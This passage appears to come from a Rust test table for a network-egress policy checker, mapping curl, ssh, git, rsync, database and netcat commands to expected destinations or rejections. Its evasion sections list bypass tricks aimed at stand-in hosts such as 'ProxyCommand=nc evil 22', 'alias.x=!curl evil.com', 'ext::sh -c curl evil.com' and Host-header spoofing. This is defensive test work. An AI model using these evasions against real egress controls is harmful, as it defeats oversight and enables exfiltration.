            D(&["api.github.com:443"]),
        ),
        (
            &["curl", "https://example.com:8443/"],
            D(&["example.com:8443"]),
        ),
        (
            &["curl", "-sSfL", "https://sh.rustup.rs"],
            D(&["sh.rustup.rs:443"]),
        ),
        (
            &["curl", "-o", "out.html", "https://a.com"],
            D(&["a.com:443"]),
        ),
        (&["curl", "-ofile", "https://a.com"], D(&["a.com:443"])),
        (
            &["curl", "-X", "POST", "-d", "x=1", "https://a.com/api"],
            D(&["a.com:443"]),
        ),
        (&["curl", "-XPOST", "https://a.com"], D(&["a.com:443"])),
        (
            &[
                "curl",
                "-H",
                "Authorization: Bearer {{secure.TOKEN}}",
                "https://api.github.com",
            ],
            D(&["api.github.com:443"]),
        ),
        (
            &["curl", "-u", "user:{{secure.PASS}}", "https://a.com"],
            D(&["a.com:443"]),
        ),
        (
            &["curl", "https://user:{{secure.PASS}}@a.com/"],
            D(&["a.com:443"]),
        ),
        (
            &["curl", "-A", "agent/1.0", "https://a.com"],
            D(&["a.com:443"]),
        ),
        (
            &["curl", "-e", "https://ref.example", "https://a.com"],
            D(&["ref.example:443", "a.com:443"]),
        ),
        (
            &["curl", "-d", "url=https://other.example", "https://a.com"],
            D(&["other.example:443", "a.com:443"]),
        ),
        (
            &["curl", "-F", "file=@a.txt", "https://a.com/upload"],
            D(&["a.com:443"]),
        ),
        (
            &["curl", "--data-binary", "@body.json", "https://a.com"],
            D(&["a.com:443"]),
        ),
        (&["curl", "--url", "https://a.com"], D(&["a.com:443"])),
        (&["curl", "--url", "a.com:81"], D(&["a.com:81"])),
        (
            &["curl", "https://a.com", "https://b.com"],
            D(&["a.com:443", "b.com:443"]),
        ),
        (
            &["curl", "https://a.com", "-:", "https://b.com"],
            D(&["a.com:443", "b.com:443"]),
        ),
        (
            &["curl", "--compressed", "https://a.com"],
            D(&["a.com:443"]),
        ),
        (
            &["curl", "-w", "%{http_code}", "https://a.com"],
            D(&["a.com:443"]),
        ),
        (&["curl", "http://3405803785/"], D(&["203.0.113.9:80"])),
        (
            &["curl", "http://0xCB.0x00.0x71.9/"],
            D(&["203.0.113.9:80"]),
        ),
        (&["curl", "http://0313.0.0161.011/"], D(&["203.0.113.9:80"])),
        (&["curl", "http://127.1/"], D(&["127.0.0.1:80"])),
        (&["curl", "http://127.0.1:8080/"], D(&["127.0.0.1:8080"])),
        (&["curl", "127.1:9000"], D(&["127.0.0.1:9000"])),
        (&["curl", "http://[::1]:8080/"], D(&["[::1]:8080"])),
        (&["curl", "http://[0:0:0:0:0:0:0:1]/"], D(&["[::1]:80"])),
        (
            &["curl", "http://[::ffff:127.0.0.1]/"],
            D(&["127.0.0.1:80"]),
        ),
        (&["curl", "[2001:db8::1]:443"], D(&["[2001:db8::1]:443"])),
        (
            &["curl", "https://bücher.de/"],
            D(&["xn--bcher-kva.de:443"]),
        ),
        (
            &["curl", "https://xn--bcher-kva.de/"],
            D(&["xn--bcher-kva.de:443"]),
        ),
        (
            &["curl", "https://ｅｘａｍｐｌｅ.com/"],
            D(&["example.com:443"]),
        ),
        (&["curl", "-g", "http://[::1]/"], D(&["[::1]:80"])),
        (&["curl", "-L", "https://a.com"], D(&["a.com:443"])),
        (&["/usr/bin/curl", "https://a.com"], D(&["a.com:443"])),
        (&["curlie", "https://a.com"], D(&["a.com:443"])),
        (
            &["curl", "-H", "X-Host: a", "https://a.com"],
            D(&["a.com:443"]),
        ),
        (
            &["curl", "--noproxy", "*", "https://a.com"],
            D(&["a.com:443"]),
        ),
        (
            &["curl", "--json", "{\"a\":1}", "https://a.com"],
            D(&["a.com:443"]),
        ),
        (
            &["curl", "sftp://files.example/x"],
            D(&["files.example:22"]),
        ),
        (&["curl", "dict://dict.org/d:word"], D(&["dict.org:2628"])),
        (&["curl", "ws://a.com/socket"], D(&["a.com:80"])),
        (&["curl", "gopher://a.com"], D(&["a.com:70"])),
        (&["curl", "https://a.com?email=x"], D(&["a.com:443"])),
        (&["curl", "https://a.com/@user"], D(&["a.com:443"])),
        (&["curl", "https://a.com/path?x=y#frag"], D(&["a.com:443"])),
        (
            &["curl", "https://_sub.example.com/"],
            D(&["_sub.example.com:443"]),
        ),
        // ---- curl evasions
        (&["python3", "-c", "x", "https://ok.org;.evil.example/"], E),
        (&["python3", "-c", "x", "https://ok.org\n.evil.example/"], E),
        (&["python3", "-c", "x", "https://ok.org\t.evil.example/"], E),
        (
            &["python3", "-c", "x", "https://ok.org\n\nevil.example/"],
            E,
        ),
        (&["python3", "-c", "x", "http\ns:evil.example"], E),
        // The scan finds the host anyway: the policy judges it.
        (
            &["python3", "-c", "x", "ht\ttps://evil.example/"],
            D(&["evil.example"]),
        ),
        (&["python3", "-c", "x", "http:\n/24.003/"], E),
        (&["python3", "-c", "x", "https:\r//evil.example/"], E),
        (
            &[
                "python3",
                "-c",
                "x",
                "https://ok.org\n\u{3002}evil.example/",
            ],
            E,
        ),
        (
            &["python3", "-c", "x", "https://ok.org\n_.evil.example/"],
            E,
        ),
        (
            &["python3", "-c", "x", "https://ok.org\n!.evil.example/"],
            E,
        ),
        (&["python3", "-c", "x", "url=http\ns:evil.example"], E),
        (&["python3", "-c", "x", "\0http\r:/evil.example/"], E),
        (
            &[
                "python3",
                "-c",
                "import sys\nwith open(sys.argv[1]) as ws:\n\tprint(ws.read())",
            ],
            D(&[]),
        ),
        (&["python3", "-c", "if ftp:\n\tpass"], D(&[])),
        (
            &[
                "node",
                "-e",
                "switch (x) {\n\tcase 1:\n\t\t// note\n\t\tbreak;\n}",
            ],
            D(&[]),
        ),
        (&["node", "-e", "label:\n// c"], D(&[])),
        (
            &[
                "python3",
                "-c",
                "import requests\nrequests.get('https://ok.org/')",
            ],
            D(&["ok.org:443"]),
        ),
        (&["python3", "-c", "x", "line one\nline two: ok"], D(&[])),
        (
            &["python3", "-c", "x", "https://ok.org\r\n\t.evil.example/"],
            E,
        ),
        (&["python3", "-c", "x", "https://ok.org;;@evil.example/"], E),
        (&["python3", "-c", "x", "https://ok.org) @evil.example/"], E),
        (
            &["python3", "-c", "x", "https://u@ok.org;`@evil.example/"],
            E,
        ),
        (&["python3", "-c", "x", "https:;@evil.example"], E),
        (&["python3", "-c", "x", "https://ok.org'.evil.example/"], E),
        (&["python3", "-c", "x", "https://ok.org(.evil.example/"], E),
        (&["curl", "-H", "Host: evil.com", "https://a.com"], E),
        (&["curl", "-H", "host:evil.com", "https://a.com"], E),
        (&["curl", "-HHost:evil.com", "https://a.com"], E),
        (&["curl", "-sHHost:evil.com", "https://a.com"], E),
        (&["curl", "--header", "Host: evil.com", "https://a.com"], E),
        (&["curl", "--header=Host: evil.com", "https://a.com"], E),
        (&["curl", "-H", "@headers.txt", "https://a.com"], E),
        (
            &["curl", "--resolve", "a.com:443:1.2.3.4", "https://a.com"],
            E,
        ),
        (
            &[
                "curl",
                "--connect-to",
                "a.com:443:evil.com:443",
                "https://a.com",
            ],
            E,
        ),
        (&["curl", "-x", "http://proxy:8080", "https://a.com"], E),
        (&["curl", "-xhttp://proxy:8080", "https://a.com"], E),
        (&["curl", "--proxy", "socks5://p:1080", "https://a.com"], E),
        (&["curl", "--preproxy", "p:1080", "https://a.com"], E),
        (&["curl", "--socks5-hostname", "p:1080", "https://a.com"], E),
        (&["curl", "-K", "cfg.txt"], E),
        (&["curl", "--config", "cfg.txt", "https://a.com"], E),
        (
            &["curl", "--unix-socket", "/var/run/docker.sock", "http://x/"],
            E,
        ),
        (&["curl", "--abstract-unix-socket", "x", "http://a/"], E),
        (
            &[
                "curl",
                "--doh-url",
                "https://doh.evil/dns-query",
                "https://a.com",
            ],
            E,
        ),
        (&["curl", "--dns-servers", "1.2.3.4", "https://a.com"], E),
        (
            &[
                "curl",
                "--variable",
                "host@file",
                "--expand-url",
                "https://{{host}}",
            ],
            E,
        ),
        (&["curl", "--location-trusted", "https://a.com"], E),
        (&["curl", "https://{{secure.HOST}}/x"], E),
        (&["curl", "{{secure.URL}}"], E),
        (&["curl", "https://a.com:{{secure.PORT}}/"], E),
        // ---- URL parser differentials
        (&["curl", "https://a.com@b.com@evil.com/"], E),
        (&["curl", "https://user:p@ss@evil.com/"], E),
        (&["curl", "https://allowed.com#@evil.com/"], E),
        (&["curl", "https://allowed.com?@evil.com/"], E),
        (&["curl", "https://evil.com\\@allowed.com/"], E),
        (&["curl", "https://allowed.com\\.evil.com/"], E),
        (&["curl", "https://ex%61mple.com/"], E),
        (&["curl", "https://example%2ecom/"], E),
        (&["curl", "https://evil。com/"], E),
        (&["curl", "https://evil．com/"], E),
        (&["curl", "https://evil｡com/"], E),
        (&["curl", "https://a.com\t.evil/"], E),
        (&["curl", "http:///evil.com/"], E),
        (&["curl", "https:evil.com"], E),
        (&["curl", "https:/evil.com"], E),
        (&["curl", "https:\\\\evil.com"], E),
        (&["curl", "http://::1/"], E),
        (&["curl", "http://a.com:99999/"], E),
        (&["curl", "http://a.com:8o/"], E),
        (&["curl", "http://exa mple.com/"], E),
        (&["curl", "http://{a,b}.com/"], E),
        (&["curl", "http://1.2.3.4.5/"], E),
        (&["curl", "http://[::1/"], E),
        (&["curl", "http://a..com/"], E),
        (&["curl", "http://-/"], D(&["-:80"])),
        (&["myprog", "https://a.com@evil.com@x.com"], E),
        (&["myprog", "--data", "see https:evil.com"], E),
        // ---- wget
        (&["wget", "https://a.com/file.tar.gz"], D(&["a.com:443"])),
        (&["wget", "a.com/file"], D(&["a.com:80"])),
        (
            &["wget", "-q", "-O", "-", "https://a.com"],
            D(&["a.com:443"]),
        ),
        (&["wget", "-O", "out.html", "a.com"], D(&["a.com:80"])),
        (&["wget", "-nv", "https://a.com"], D(&["a.com:443"])),
        (
            &["wget", "--output-document=x", "https://a.com"],
            D(&["a.com:443"]),
        ),
        (
            &[
                "wget",
                "--header=Authorization: Bearer {{secure.T}}",
                "https://a.com",
            ],
            D(&["a.com:443"]),
        ),
        (
            &["wget", "-c", "-t", "3", "https://a.com"],
            D(&["a.com:443"]),
        ),
        (&["wget", "-e", "use_proxy=yes", "https://a.com"], E),
        (
            &["wget", "--execute=https_proxy=http://p:1", "https://a.com"],
            E,
        ),
        (&["wget", "--exec", "https_proxy=p", "https://a.com"], E),
        (&["wget", "-i", "urls.txt"], E),
        (&["wget", "--input-file=urls.txt"], E),
        (&["wget", "--config=./rc", "https://a.com"], E),
        (&["wget", "--header=Host: evil.com", "https://a.com"], E),
        (&["wget", "--header", "Host: evil.com", "https://a.com"], E),
        (&["wget", "-r", "-H", "https://a.com"], E),
        // ---- httpie / xh
        (&["http", "example.com"], D(&["example.com:80"])),
        (&["https", "example.com"], D(&["example.com:443"])),
        (&["http", "GET", "example.com/api"], D(&["example.com:80"])),
        (
            &[
                "http",
                "POST",
                "https://a.com/api",
                "name=x",
                "Authorization:Bearer {{secure.T}}",
            ],
            D(&["a.com:443"]),
        ),
        (&["http", ":3000/api"], D(&["localhost:3000"])),
        (&["http", ":/api"], D(&["localhost:80"])),
        (
            &["http", "-a", "user:{{secure.P}}", "a.com"],
            D(&["a.com:80"]),
        ),
        (&["http", "--auth", "u:p", "a.com"], D(&["a.com:80"])),
        (&["xh", "get", "a.com"], D(&["a.com:80"])),
        (&["xhs", "a.com"], D(&["a.com:443"])),
        (&["xh", "--https", "a.com"], D(&["a.com:443"])),
        (
            &["http", "--default-scheme", "https", "a.com"],
            D(&["a.com:443"]),
        ),
        (
            &["http", "a.com", "url=https://b.com"],
            D(&["a.com:80", "b.com:443"]),
        ),
        (&["http", "a.com", "q==1", "x:=2"], D(&["a.com:80"])),
        (&["http", "a.com", "Host:evil.com"], E),
        (&["http", "a.com", "host: evil.com"], E),
        (&["http", "--proxy", "https:http://p:1", "a.com"], E),
        (&["http", "--proxy=http:http://p:1", "a.com"], E),
        (&["xh", "--resolve", "a.com:1.2.3.4", "a.com"], E),
        (&["xh", "--unix-socket", "/s", "a.com"], E),
        (&["http", "{{secure.U}}"], E),
        // ---- ssh
        (&["ssh", "host.example.com"], D(&["host.example.com:22"])),
        (
            &["ssh", "user@host.example.com"],
            D(&["host.example.com:22"]),
        ),
        (
            &["ssh", "-p", "2222", "user@host.example.com"],
            D(&["host.example.com:2222"]),
        ),
        (&["ssh", "-p2222", "h.example"], D(&["h.example:2222"])),
        (&["ssh", "h.example", "-p", "2200"], D(&["h.example:2200"])),
        (
            &["ssh", "-i", "~/.ssh/id", "-l", "root", "h.example"],
            D(&["h.example:22"]),
        ),
        (&["ssh", "myserver"], D(&["myserver:22"])),
        (&["ssh", "ssh://u@h.example:2022"], D(&["h.example:2022"])),
        (
            &["ssh", "-o", "StrictHostKeyChecking=no", "h.example"],
            D(&["h.example:22"]),
        ),
        (&["ssh", "-oPort=2022", "h.example"], D(&["h.example:2022"])),
        (
            &["ssh", "-o", "Port 2023", "h.example"],
            D(&["h.example:2023"]),
        ),
        (
            &[
                "ssh",
                "-o",
                "BatchMode=yes",
                "-o",
                "ConnectTimeout=5",
                "h.example",
            ],
            D(&["h.example:22"]),
        ),
        (&["ssh", "-tt", "-A", "h.example"], D(&["h.example:22"])),
        (&["ssh", "h.example", "uptime"], D(&["h.example:22"])),
        (
            &["ssh", "h.example", "curl", "https://b.com"],
            D(&["h.example:22", "b.com:443"]),
        ),
        (
            &["ssh", "h.example", "curl https://b.com && ls"],
            D(&["h.example:22", "b.com:443"]),
        ),
        (
            &["ssh", "-L", "8080:db.internal:5432", "bastion.example"],
            D(&["db.internal:5432", "bastion.example:22"]),
        ),
        (
            &["ssh", "-L", "127.0.0.1:8080:db.internal:5432", "b.example"],
            D(&["db.internal:5432", "b.example:22"]),
        ),
        (
            &["ssh", "-W", "inner.example:22", "b.example"],
            D(&["inner.example:22", "b.example:22"]),
        ),
        (&["ssh", "-D", "1080", "b.example"], D(&["b.example:22"])),
        (
            &["ssh", "-N", "-R", "9000:localhost:3000", "b.example"],
            D(&["b.example:22"]),
        ),
        (&["ssh", "root@10.0.0.5"], D(&["10.0.0.5:22"])),
        (&["ssh", "::1"], D(&["[::1]:22"])),
        (&["ssh", "a@b@h.example"], D(&["h.example:22"])),
        (&["ssh", "-o", "ProxyCommand=nc evil 22", "h.example"], E),
        (&["ssh", "-oProxyCommand=nc evil 22", "h.example"], E),
        (&["ssh", "-o", "ProxyJump=evil", "h.example"], E),
        (&["ssh", "-o", "HostName=evil.com", "h.example"], E),
        (&["ssh", "-o", "hostname evil.com", "h.example"], E),
        (&["ssh", "-o", "ControlPath=/tmp/sock", "h.example"], E),
        (&["ssh", "-o", "LocalCommand=curl evil", "h.example"], E),
        (&["ssh", "-o", "CanonicalDomains=evil.com", "h.example"], E),
        (&["ssh", "-J", "jump.example", "h.example"], E),
        (&["ssh", "-F", "./cfg", "h.example"], E),
        (&["ssh", "-S", "/tmp/ctl", "h.example"], E),
        (&["ssh", "h.example", "-o", "ProxyCommand=x"], E),
        (&["ssh", "{{secure.HOST}}"], E),
        (&["ssh", "user@{{secure.HOST}}"], E),
        (&["ssh", "-p", "{{secure.PORT}}", "h.example"], E),
        (&["ssh", "h.example", "curl -x http://p:1 https://b.com"], E),
        // ---- scp / sftp
        (
            &["scp", "file.txt", "user@h.example:/tmp/"],
            D(&["h.example:22"]),
        ),
        (
            &["scp", "-P", "2222", "h.example:/etc/x", "."],
            D(&["h.example:2222"]),
        ),
        (&["scp", "-r", "dir", "h.example:"], D(&["h.example:22"])),
        (
            &["scp", "scp://u@h.example:2200/x", "."],
            D(&["h.example:2200"]),
        ),
        (
            &["scp", "a.example:x", "b.example:y"],
            D(&["a.example:22", "b.example:22"]),
        ),
        (
            &["scp", "f", "u@[2001:db8::1]:/tmp"],
            D(&["[2001:db8::1]:22"]),
        ),
        (&["scp", "./a:b", "dir/c:d"], N),
        (&["scp", "-o", "ProxyJump=x", "f", "h.example:"], E),
        (&["scp", "-J", "jump", "f", "h.example:"], E),
        (&["scp", "-F", "cfg", "f", "h.example:"], E),
        (&["scp", "-S", "prog", "f", "h.example:"], E),
        (&["scp", "f", "{{secure.H}}:/tmp"], E),
        (&["sftp", "user@h.example"], D(&["h.example:22"])),
        (
            &["sftp", "-P", "2022", "h.example:/dir"],
            D(&["h.example:2022"]),
        ),
        (&["sftp", "sftp://h.example/dir"], D(&["h.example:22"])),
        (
            &["sftp", "-b", "batch.txt", "h.example"],
            D(&["h.example:22"]),
        ),
        (&["sftp", "-D", "/usr/lib/sftp-server"], E),
        (&["sftp", "-o", "ProxyCommand=x", "h.example"], E),
        // ---- rsync
        (
            &["rsync", "-avz", "src/", "user@h.example:/dst/"],
            D(&["h.example:22"]),
        ),
        (
            &["rsync", "-av", "h.example:/src", "dst"],
            D(&["h.example:22"]),
        ),
        (
            &["rsync", "-e", "ssh", "src", "h.example:/d"],
            D(&["h.example:22"]),
        ),
        (
            &["rsync", "-e", "ssh -p 2222", "src", "h.example:/d"],
            D(&["h.example:2222"]),
        ),
        (
            &["rsync", "--rsh=ssh -p 2200", "src", "h.example:/d"],
            D(&["h.example:2200"]),
        ),
        (
            &["rsync", "rsync://mirror.example/pub/", "dst"],
            D(&["mirror.example:873"]),
        ),
        (
            &["rsync", "mirror.example::pub", "dst"],
            D(&["mirror.example:873"]),
        ),
        (
            &["rsync", "--port", "8730", "mirror.example::pub", "dst"],
            D(&["mirror.example:8730"]),
        ),
        (&["rsync", "--exclude", "a:b", "src", "dst"], N),
        (&["rsync", "-e", "nc evil 22", "src", "h.example:/d"], E),
        (&["rsync", "--rsh=sh -c 'x'", "src", "h.example:/d"], E),
        (
            &[
                "rsync",
                "-e",
                "ssh -o ProxyCommand=x",
                "src",
                "h.example:/d",
            ],
            E,
        ),
        (&["rsync", "-e", "ssh -J jump", "s", "h.example:/d"], E),
        (&["rsync", "src", "{{secure.H}}:/d"], E),
        // ---- git
        (
            &["git", "clone", "https://github.com/org/repo"],
            D(&["github.com:443"]),
        ),
        (
            &["git", "clone", "git@github.com:org/repo"],
            D(&["github.com:22"]),
        ),
        (
            &["git", "clone", "github.com:org/repo.git", "dir"],
            D(&["github.com:22"]),
        ),
        (
            &["git", "clone", "ssh://git@github.com:2222/org/repo"],
            D(&["github.com:2222"]),
        ),
        (
            &["git", "clone", "git://git.kernel.org/pub/x.git"],
            D(&["git.kernel.org:9418"]),
        ),
        (
            &[
                "git",
                "clone",
                "--depth",
                "1",
                "-b",
                "main",
                "https://gitlab.com/x/y",
            ],
            D(&["gitlab.com:443"]),
        ),
        (
            &["git", "clone", "--filter=blob:none", "https://a.com/r"],
            D(&["a.com:443"]),
        ),
        (
            &["git", "-C", "/tmp", "clone", "https://a.com/r"],
            D(&["a.com:443"]),
        ),
        (
            &["git", "-c", "user.name=x", "clone", "https://a.com/r"],
            D(&["a.com:443"]),
        ),
        (
            &[
                "git",
                "-c",
                "credential.helper=",
                "clone",
                "https://a.com/r",
            ],
            D(&["a.com:443"]),
        ),
        (
            &["git", "--no-pager", "clone", "https://a.com/r"],
            D(&["a.com:443"]),
        ),
        (
            &["git", "push", "https://github.com/org/repo", "main"],
            D(&["github.com:443"]),
        ),
        (
            &["git", "push", "git@github.com:org/repo", "HEAD:main"],
            D(&["github.com:22"]),
        ),
        (
            &[
                "git",
                "push",
                "--force-with-lease",
                "git@github.com:o/r",
                "main",
            ],
            D(&["github.com:22"]),
        ),
        (
            &["git", "fetch", "https://a.com/r", "main"],
            D(&["a.com:443"]),
        ),
        (
            &["git", "pull", "--rebase", "https://a.com/r", "main"],
            D(&["a.com:443"]),
        ),
        (&["git", "ls-remote", "https://a.com/r"], D(&["a.com:443"])),
        (
            &["git", "ls-remote", "--heads", "git@a.com:r"],
            D(&["a.com:22"]),
        ),
        (
            &["git", "push", "--repo=https://a.com/r"],
            D(&["a.com:443"]),
        ),
        (&["git", "fetch", "/srv/other.git"], N),
        (
            &["git", "archive", "--remote=git@a.com:r", "HEAD"],
            D(&["a.com:22"]),
        ),
        (
            &["git", "submodule", "add", "https://a.com/lib", "lib"],
            D(&["a.com:443"]),
        ),
        (
            &["git", "remote", "add", "-f", "up", "https://a.com/r"],
            D(&["a.com:443"]),
        ),
        (
            &["git", "clone", "hg::https://hg.example/repo"],
            D(&["hg.example:443"]),
        ),
        (&["git", "push", "origin", "main"], E),
        (&["git", "push"], E),
        (&["git", "pull"], E),
        (&["git", "fetch", "upstream"], E),
        (&["git", "fetch", "--all"], E),
        (&["git", "ls-remote", "origin"], E),
        (&["git", "remote", "update"], E),
        (&["git", "remote", "show", "origin"], E),
        (&["git", "submodule", "update", "--init"], E),
        (&["git", "submodule", "add", "../lib", "lib"], E),
        (&["git", "lfs", "pull"], E),
        (&["git", "send-email", "p.patch"], E),
        (&["git", "archive", "--remote=origin", "HEAD"], E),
        (
            &[
                "git",
                "-c",
                "http.proxy=http://evil:8080",
                "clone",
                "https://a.com/r",
            ],
            E,
        ),
        (
            &["git", "-c", "https.proxy=x", "fetch", "https://a.com/r"],
            E,
        ),
        (
            &[
                "git",
                "-c",
                "core.sshCommand=ssh -o ProxyCommand=x",
                "clone",
                "git@a.com:r",
            ],
            E,
        ),
        (
            &[
                "git",
                "-c",
                "http.extraHeader=Host: evil",
                "clone",
                "https://a.com/r",
            ],
            E,
        ),
        (
            &[
                "git",
                "-c",
                "url.https://evil.com/.insteadOf=https://a.com/",
                "clone",
                "https://a.com/r",
            ],
            E,
        ),
        (&["git", "-c", "alias.x=!curl evil.com", "x"], E),
        (
            &["git", "-c", "core.gitProxy=x", "clone", "git://a.com/r"],
            E,
        ),
        (
            &[
                "git",
                "--config-env=http.proxy=PROXY",
                "clone",
                "https://a.com/r",
            ],
            E,
        ),
        (
            &["git", "clone", "-c", "http.proxy=x", "https://a.com/r"],
            E,
        ),
        (
            &[
                "git",
                "clone",
                "--config",
                "core.sshCommand=x",
                "git@a.com:r",
            ],
            E,
        ),
        (&["git", "clone", "-u", "sh -c x", "https://a.com/r"], E),
        (&["git", "clone", "--upload-pack=x", "https://a.com/r"], E),
        (
            &["git", "clone", "--recurse-submodules", "https://a.com/r"],
            E,
        ),
        (&["git", "clone", "--template=/tmp/t", "https://a.com/r"], E),
        (&["git", "fetch", "--upload-pack=x", "https://a.com/r"], E),
        (&["git", "push", "--receive-pack=x", "https://a.com/r"], E),
        (&["git", "clone", "ext::sh -c curl% evil.com", "d"], E),
        (&["git", "clone", "fd::17", "d"], E),
        (&["git", "clone", "https://{{secure.H}}/r"], E),
        (
            &[
                "GIT_SSH_COMMAND=ssh -o ProxyCommand=x",
                "git",
                "clone",
                "git@a.com:r",
            ],
            E,
        ),
        (&["GIT_PROXY_COMMAND=x", "git", "fetch", "git://a.com/r"], E),
        (&["env", "GIT_SSH=x", "git", "clone", "git@a.com:r"], E),
        (
            &["GIT_CONFIG_COUNT=1", "git", "clone", "https://a.com/r"],
            E,
        ),
        // ---- databases
        (&["redis-cli"], D(&["127.0.0.1:6379"])),
        (&["redis-cli", "ping"], D(&["127.0.0.1:6379"])),
        (
            &["redis-cli", "-h", "cache.example", "-p", "6380", "ping"],
            D(&["cache.example:6380"]),
        ),
        (
            &[
                "redis-cli",
                "-h",
                "cache.example",
                "-a",
                "{{secure.P}}",
                "get",
                "k",
            ],
            D(&["cache.example:6379"]),
        ),
        (
            &["redis-cli", "-u", "redis://u:p@cache.example:6390/0"],
            D(&["cache.example:6390"]),
        ),
        (
            &["redis-cli", "-u", "rediss://cache.example"],
            D(&["cache.example:6379"]),
        ),
        (&["redis-cli", "-p", "7000"], D(&["127.0.0.1:7000"])),
        (&["redis-cli", "-h", "{{secure.H}}"], E),
        (
            &["psql", "-h", "db.example", "-U", "app", "mydb"],
            D(&["db.example:5432"]),
        ),
        (
            &["psql", "-h", "db.example", "-p", "6543"],
            D(&["db.example:6543"]),
        ),
        (
            &["psql", "--host=db.example", "--port=5433"],
            D(&["db.example:5433"]),
        ),
        (
            &["psql", "postgres://u:{{secure.P}}@db.example/app"],
            D(&["db.example:5432"]),
        ),
        (
            &["psql", "postgresql://db.example:6000/app?sslmode=require"],
            D(&["db.example:6000"]),
        ),
        (
            &["psql", "postgresql://h1.example,h2.example:5433/app"],
            D(&["h1.example:5432", "h2.example:5433"]),
        ),
        (
            &["psql", "postgresql:///app?host=db.example"],
            D(&["db.example:5432"]),
        ),
        (
            &[
                "psql",
                "postgresql://x.example/app?host=y.example&port=6000",
            ],
            D(&["x.example:5432", "y.example:6000"]),
        ),
        (
            &["psql", "host=db.example port=5433 dbname=app"],
            D(&["db.example:5433"]),
        ),
        (
            &["psql", "-d", "host=db.example dbname=app"],
            D(&["db.example:5432"]),
        ),
        (
            &["psql", "-h", "a.example,b.example", "-p", "1,2"],
            D(&["a.example:1", "b.example:2"]),
        ),
        (&["psql", "-h", "/var/run/postgresql"], N),
        (
            &["psql", "-c", "select 1", "-h", "db.example"],
            D(&["db.example:5432"]),
        ),
        (
            &[
                "pg_dump",
                "-h",
                "db.example",
                "-Fc",
                "-f",
                "out.dump",
                "app",
            ],
            D(&["db.example:5432"]),
        ),
        (
            &["pg_restore", "-h", "db.example", "-d", "app", "x.dump"],
            D(&["db.example:5432"]),
        ),
        (&["pg_isready", "-h", "db.example"], D(&["db.example:5432"])),
        (&["psql", "service=prod"], E),
        (&["psql", "postgresql:///app?service=prod"], E),
        (&["PGSERVICE=prod", "psql"], E),
        (&["PGHOST=db.example", "psql"], D(&["db.example"])),
        (&["psql", "-h", "{{secure.H}}"], E),
        (
            &[
                "mysql",
                "-h",
                "db.example",
                "-u",
                "root",
                "-p{{secure.P}}",
                "app",
            ],
            D(&["db.example:3306"]),
        ),
        (
            &["mysql", "-hdb.example", "-P3307"],
            D(&["db.example:3307"]),
        ),
        (
            &["mysql", "--host=db.example", "--port=3308", "app"],
            D(&["db.example:3308"]),
        ),
        (
            &["mysql", "-h", "db.example", "-p", "app"],
            D(&["db.example:3306"]),
        ),
        (
            &["mysql", "-e", "select 1", "-h", "10.0.0.9"],
            D(&["10.0.0.9:3306"]),
        ),
        (
            &["mysqldump", "-h", "db.example", "app"],
            D(&["db.example:3306"]),
        ),
        (&["mariadb", "-h", "db.example"], D(&["db.example:3306"])),
        (&["mysql", "--defaults-file=/tmp/my.cnf"], E),
        (&["mysql", "--login-path=prod"], E),
        (&["mysql", "-h", "{{secure.H}}"], E),
        (&["mongosh"], D(&["127.0.0.1:27017"])),
        (
            &["mongosh", "mongodb://u:p@m.example:27018/app"],
            D(&["m.example:27018"]),
        ),
        (
            &["mongosh", "mongodb+srv://cluster0.abc.mongodb.net/app"],
            D(&["cluster0.abc.mongodb.net"]),
        ),
        (
            &["mongosh", "mongodb://a.example,b.example:27018/app"],
            D(&["a.example:27017", "b.example:27018"]),
        ),
        (
            &["mongosh", "--host", "m.example", "--port", "27019"],
            D(&["m.example:27019"]),
        ),
        (
            &["mongosh", "--host", "rs0/a.example:1,b.example:2"],
            D(&["a.example:1", "b.example:2"]),
        ),
        (&["mongosh", "m.example/app"], D(&["m.example:27017"])),
        (&["mongosh", "m.example:27020/app"], D(&["m.example:27020"])),
        (&["mongosh", "app"], D(&["127.0.0.1:27017"])),
        (
            &["mongosh", "--eval", "db.stats()", "m.example/app"],
            D(&["m.example:27017"]),
        ),
        (&["mongo", "--host", "{{secure.H}}"], E),
        // ---- nc / ncat / telnet / socat
        (&["nc", "h.example", "80"], D(&["h.example:80"])),
        (
            &["nc", "-v", "-w", "3", "h.example", "443"],
            D(&["h.example:443"]),
        ),
        (&["nc", "-zv", "h.example", "20-30"], D(&["h.example"])),
        (
            &["ncat", "--ssl", "h.example", "443"],
            D(&["h.example:443"]),
        ),
        (&["netcat", "10.0.0.1", "22"], D(&["10.0.0.1:22"])),
        (
            &["nc", "-p", "5555", "h.example", "80"],
            D(&["h.example:80"]),
        ),
        (&["nc", "-x", "proxy:1080", "h.example", "80"], E),
        (&["nc", "-X", "5", "-x", "p:1", "h.example", "80"], E),
        (&["ncat", "--proxy", "p:3128", "h.example", "80"], E),
        (&["nc", "{{secure.H}}", "80"], E),
        (
            &["ncat", "-c", "curl https://b.com", "h.example", "80"],
            D(&["b.com:443", "h.example:80"]),
        ),
        (&["telnet", "h.example"], D(&["h.example:23"])),
        (&["telnet", "h.example", "25"], D(&["h.example:25"])),
        (
            &["telnet", "-l", "root", "10.1.2.3", "2323"],
            D(&["10.1.2.3:2323"]),
        ),
        (&["socat", "-", "TCP:h.example:443"], D(&["h.example:443"])),
        (
            &["socat", "STDIO", "OPENSSL:h.example:443,verify=0"],
            D(&["h.example:443"]),
        ),
        (
            &["socat", "TCP-LISTEN:8080,fork", "TCP:backend.example:80"],
            D(&["backend.example:80"]),
        ),
        (
            &["socat", "-d", "-d", "UDP:[::1]:53", "-"],
            D(&["[::1]:53"]),
        ),
        (&["socat", "-", "SOCKS4A:p:h.example:80"], E),
        (&["socat", "-", "PROXY:p:h.example:80"], E),
        (
            &["socat", "-", "SYSTEM:curl https://b.com"],
            D(&["b.com:443"]),
        ),
        (
            &["socat", "-", "EXEC:curl https://c.com"],
            D(&["c.com:443"]),
        ),
        // ---- wrappers
        (&["env", "curl", "https://a.com"], D(&["a.com:443"])),
        (&["env", "-i", "curl", "https://a.com"], D(&["a.com:443"])),
        (
            &["env", "-u", "HOME", "curl", "https://a.com"],
            D(&["a.com:443"]),
        ),
        (
            &[
                "env",
                "-i",
                "-u",
                "X",
                "A=1",
                "B=2",
                "curl",
                "https://a.com",
            ],
            D(&["a.com:443"]),
        ),
        (&["env", "--", "curl", "https://a.com"], D(&["a.com:443"])),
        (
            &["env", "-S", "curl -s", "https://a.com"],
            D(&["a.com:443"]),
        ),
        (&["env", "-C", "/tmp", "curl", "a.com"], D(&["a.com:80"])),
        (&["sudo", "curl", "https://a.com"], D(&["a.com:443"])),
        (
            &["sudo", "-u", "www", "-E", "curl", "https://a.com"],
